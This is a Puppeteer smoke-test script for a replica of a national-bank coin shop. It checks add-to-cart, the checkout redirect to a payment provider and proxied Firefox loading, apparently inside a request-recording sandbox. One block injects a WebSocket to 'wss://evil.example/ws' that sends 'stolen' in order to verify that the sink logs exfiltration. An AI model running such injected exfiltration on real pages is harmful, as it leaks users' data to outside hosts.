// Real-browser smoke check of the replica (not part of the unit suite):
//   npx tsx tests/shop/smoke.ts
// Chromium: product page → trusted click on add-to-cart → the cart request succeeded; saves a
// screenshot to /tmp/shop-product.png. Firefox: the catalog loads through the CONNECT proxy.
import puppeteer from 'puppeteer';
import { API, SELECTORS } from './config.ts';
import { chromiumHostArgs, FIREFOX_QUIET_ENV, firefoxProxyPrefs, startShop, type ShopServer } from './index.ts';

const PRODUCT_URL = 'https://kazcoins.nationalbank.kz/en/product/snow-leopard-silver';

async function chromium(shop: ShopServer): Promise<void> {
  const browser = await puppeteer.launch({
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-background-networking', '--no-first-run', ...chromiumHostArgs(shop)],
  });
  try {
    const page = await browser.newPage();
    await page.setViewport({ width: 1100, height: 900 });
    await page.goto(PRODUCT_URL, { waitUntil: 'load' });
    await page.waitForSelector(`${SELECTORS.addToCart}:not([disabled])`);
    const cartReply = page.waitForResponse((r) => r.url().endsWith(API.cartItems));
    await page.click(SELECTORS.addToCart);
    const reply = await cartReply;
    if (reply.status() !== 200) throw new Error(`cart request answered ${reply.status()}`);
    await page.waitForFunction((sel: string) => document.querySelector(sel)?.textContent === 'Added to cart', {}, SELECTORS.cartMessage);
    // Wait for the lazily loaded reviews chunk, captcha widget and analytics beacon.
    await page.waitForSelector('.review');
    await page.waitForSelector('.kp-captcha__box');
    await page.screenshot({ path: '/tmp/shop-product.png', fullPage: true });
    const hosts = new Set(shop.requests.map((r) => `${r.host}${r.path.split('?')[0]}`));
    for (const expected of [
      'cdn.shopmetrics.test/collect',
      'kazcoins.nationalbank.kz/static/chunk-reviews.js',
      'captcha.kazpay.test/widget.js',
    ]) {
      if (!hosts.has(expected)) throw new Error(`missing request: ${expected}`);
    }
    console.log('chromium: add-to-cart 200, screenshot /tmp/shop-product.png');

    // Checkout: confirm the order, then the native form POST lands on the payment provider.
    await page.goto('https://kazcoins.nationalbank.kz/en/checkout', { waitUntil: 'load' });
    await page.click(SELECTORS.orderConfirm);
    await page.waitForSelector(`${SELECTORS.checkoutSubmit}:not([disabled])`);
    await Promise.all([page.waitForNavigation(), page.click(SELECTORS.checkoutSubmit)]);
    if (!page.url().startsWith('https://epay.kazpay.test/pay')) throw new Error(`checkout went to ${page.url()}`);
    console.log(`chromium: checkout posted to ${page.url()}`);

    // WebSocket exfiltration reaches the sink and is recorded.
    await page.evaluate(() => {
      const ws = new WebSocket('wss://evil.example/ws');
      ws.onopen = () => ws.send('stolen');
    });
    const deadline = Date.now() + 5000;
    while (!shop.requests.some((r) => r.method === 'WS' && r.body === 'stolen')) {
      if (Date.now() > deadline) throw new Error('websocket message not recorded');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    console.log('chromium: websocket message recorded');
  } finally {
    await browser.close();
  }
}

async function firefox(shop: ShopServer): Promise<void> {
  const browser = await puppeteer.launch({
    browser: 'firefox',
    executablePath: '/usr/bin/firefox-esr',
    headless: true,
    acceptInsecureCerts: true,
    env: { ...process.env, ...FIREFOX_QUIET_ENV },
    extraPrefsFirefox: firefoxProxyPrefs(shop),
  });
  try {
    const page = await browser.newPage();
    const response = await page.goto('https://kazcoins.nationalbank.kz/kz/', { waitUntil: 'load' });
    const title = await page.title();
    if (response?.status() !== 200 || !title.includes('Монеталар')) throw new Error(`firefox got ${response?.status()} "${title}"`);
    await page.goto('http://helper-cdn.test/ping', { waitUntil: 'load' });
    if (!shop.requests.some((r) => r.host === 'helper-cdn.test' && r.path === '/ping'))
      throw new Error('plain HTTP via proxy not recorded');
    const foreign = [...new Set(shop.requests.filter((r) => !shop.hosts.includes(r.host)).map((r) => r.host))];
    if (foreign.length > 0) throw new Error(`firefox background traffic reached the proxy: ${foreign.join(', ')}`);
    console.log(`firefox: "${title}" via proxy, http:// host via proxy, no background traffic`);
  } finally {
    await browser.close();
  }
}

const shop = await startShop();
try {
  await chromium(shop);
  shop.reset();
  await firefox(shop);
} finally {
  await shop.close();
}
